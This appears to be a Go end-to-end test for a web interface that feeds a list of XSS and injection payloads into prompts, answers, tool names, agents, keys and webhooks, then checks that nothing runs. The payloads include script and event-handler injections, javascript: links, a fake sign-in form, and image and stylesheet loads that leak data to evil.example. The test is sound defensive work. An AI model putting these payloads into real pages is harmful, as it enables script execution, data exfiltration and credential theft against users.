package ui

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"errand/e2e/rig"
)

// payloads are texts that would run, load or lead somewhere in a page that took any of
// them for markup, for Markdown that it trusts, for an address or for a script.
func payloads() []string {
	return []string{
		`<script>window.__ran=1</script>`, `<img src=x onerror="window.__ran=2">`, `<svg onload="window.__ran=3">`, `"><svg/onload=window.__ran=4>`,
		`<iframe srcdoc="<script>parent.__ran=5</script>"></iframe>`, `<a href="javascript:window.__ran=6">click</a>`, `[click](javascript:window.__ran=7)`,
		`[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49ODwvc2NyaXB0Pg==)`, `![x](https://evil.example/leak?d=secret)`, `![x](//evil.example/leak)`,
		`<img src="https://evil.example/leak">`, `<style>@import url(https://evil.example/x.css);body{display:none}</style>`, `<link rel=stylesheet href=https://evil.example/x.css>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`, `<form action=https://evil.example/><input name=key><button>Sign in</button></form>`,
		`<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x">`, `<video><source onerror="window.__ran=19"></video>`, `<details open ontoggle="window.__ran=20">`,
		`<math><mtext><table><mglyph><style><img src=x onerror=window.__ran=21>`, `<noscript><p title="</noscript><img src=x onerror=window.__ran=22>">`, `<template><script>window.__ran=23</script></template>`,
		"`${window.__ran=24}`", `{{constructor.constructor('window.__ran=25')()}}`, `';window.__ran=26;//`, `</textarea><script>window.__ran=27</script>`, `</title><script>window.__ran=28</script>`,
		`<x onfocus=window.__ran=29 tabindex=1 autofocus id=x>`, `<a href="https://evil.example/" target=_self ping="https://evil.example/ping">x</a>`, "[a]: javascript:window.__ran=31\n[a]", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__ran=32'/>">`,
	}
}

// TestNothingRuns puts each payload into every text that a page shows: prompts, answers,
// names of tools, arguments, names of agents, robots and keys.
func TestNothingRuns(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	s.post("/v1/tools", object{"name": "note.write", "effect": "once", "url": s.Tools.URL + "/note.write", "description": payloads()[1], "parameters": object{"type": "object"}}, nil)
	asked := map[string]string{}
	s.Model.Plays(func(c rig.Conversation) rig.Turn {
		payload := asked[c.Prompt()]
		if strings.HasPrefix(c.Prompt(), "gated") && c.Step() == 0 {
			arguments, err := json.Marshal(object{"text": payload, payload: payload, "list": []string{payload}})
			if err != nil {
				t.Error(err)
			}
			return rig.Turn{Calls: []rig.ToolCall{{Name: "note.write", Arguments: string(arguments)}}}
		}
		if c.Step() == 0 {
			return rig.Turn{Calls: []rig.ToolCall{{Name: payload, Arguments: `{"x":1}`}}} // a tool that it makes up
		}
		return rig.Turn{Text: payload + "\n\n" + payload}
	})
	var runs []string
	for i, payload := range payloads() {
		asked["gated "+payload], asked["open "+payload] = payload, payload
		for _, prompt := range []string{"gated " + payload, "open " + payload} {
			runs = append(runs, s.id("/v1/runs", object{"model": "openai/gpt-5-mini", "tools": []string{"note.write"}, "prompt": prompt, "background": true,
				"instructions": payload, "approval": object{"required_for": []string{"note.write"}}, "metadata": object{"note": payload}}))
		}
		s.post("/v1/agents", object{"name": strings.Trim(strings.NewReplacer("/", "|", "\n", " ").Replace(fmt.Sprint(i, payload)), " ")[:min(60, len(payload))], "description": payload, "model": "openai/gpt-5-mini", "instructions": payload, "tools": []string{}}, nil)
		s.post("/v1/keys", object{"name": strings.ReplaceAll(payload, "\n", " ")}, nil)
		if i < 8 {
			s.post("/v1/agent/robots", object{"display_name": payload, "bio": payload, "robot_config": object{"identity": object{"role": payload, "duties": []string{payload}}}}, nil)
			s.post("/v1/webhooks", object{"url": fmt.Sprint(s.Tools.URL, "/hook/", i), "events": "*", "description": payload}, nil)
		}
	}
	for _, id := range runs {
		s.until(id, "awaiting_approval", "completed", "failed")
	}
	s.knows("runs", runs)
	s.knows("payloads", payloads())
	s.drives("hostile")
}
